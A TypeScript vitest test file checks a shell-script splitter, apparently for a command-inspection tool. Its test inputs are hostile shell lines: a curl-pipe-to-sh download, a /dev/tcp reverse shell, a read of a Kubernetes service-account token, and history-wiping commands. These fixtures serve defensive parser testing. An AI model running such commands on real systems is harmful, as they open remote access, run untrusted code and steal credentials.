import { describe, expect, it } from 'vitest';
import { splitShellScript } from './split-shell-script.js';

const words = (script: string) => splitShellScript(script).map((c) => c.words);

describe('splitShellScript', () => {
  it('splits a download piped into a shell', () => {
    expect(splitShellScript('curl -fsSL http://203.0.113.9/x.sh | sh')).toEqual(
      [
        { words: ['curl', '-fsSL', 'http://203.0.113.9/x.sh'], next: '|' },
        { words: ['sh'], next: '' },
      ],
    );
  });

  it('keeps redirections to /dev/tcp inside words', () => {
    expect(words('bash -i >& /dev/tcp/203.0.113.9/4444 0>&1')).toEqual([
      ['bash', '-i', '>&', '/dev/tcp/203.0.113.9/4444', '0>&1'],
    ]);
  });

  it('splits a command substitution as well', () => {
    expect(
      words(
        'curl -H "Authorization: Bearer $(cat /var/run/secrets/' +
          'kubernetes.io/serviceaccount/token)" https://kubernetes.default.svc/',
      ),
    ).toEqual([
      ['cat', '/var/run/secrets/kubernetes.io/serviceaccount/token'],
      [
        'curl',
        '-H',
        'Authorization: Bearer $(cat /var/run/secrets/kubernetes.io/' +
          'serviceaccount/token)',
        'https://kubernetes.default.svc/',
      ],
    ]);
  });

  it('removes quotes and backslashes', () => {
    expect(words(`echo 'a b' "c \\"d\\"" e\\ f`)).toEqual([
      ['echo', 'a b', 'c "d"', 'e f'],
    ]);
  });

  it('ends commands at list operators', () => {
    expect(
      splitShellScript('cd /tmp || cd /var/run; wget x && chmod +x y &').map(
        (c) => c.next,
      ),
    ).toEqual(['||', ';', '&&', '&']);
  });

  it('drops assignments and reserved words before a command', () => {
    expect(words('if true; then LC_ALL=C ls -la; fi')).toEqual([
      ['true'],
      ['ls', '-la'],
    ]);
  });

  it('keeps a statement of assignments only', () => {
    expect(words('HISTFILE=/dev/null; unset HISTSIZE')).toEqual([
      ['HISTFILE=/dev/null'],
      ['unset', 'HISTSIZE'],
    ]);
  });

  it('ignores comments', () => {
    expect(words('id # whoami\nuname -a')).toEqual([['id'], ['uname', '-a']]);
  });

  it('ends an unbalanced quote at the end', () => {
    expect(words("echo 'open")).toEqual([['echo', 'open']]);
  });

  it('bounds the commands of a long script', () => {
    expect(splitShellScript('id;'.repeat(10_000))).toHaveLength(128);
  });

  it.each([
    ['substitutions', '$('.repeat(32_768)],
    ['backquotes', '`'.repeat(65_536)],
    ['operators', '|'.repeat(65_536)],
    ['quotes', '"$('.repeat(21_845)],
  ])('splits hostile %s in linear time', (_name, script) => {
    const started = performance.now();
    splitShellScript(script);
    // About 40 ms on a loaded 2-core machine. A quadratic split would
    // take seconds at this length, so the bound catches it.
    expect(performance.now() - started).toBeLessThan(1000);
  });
});
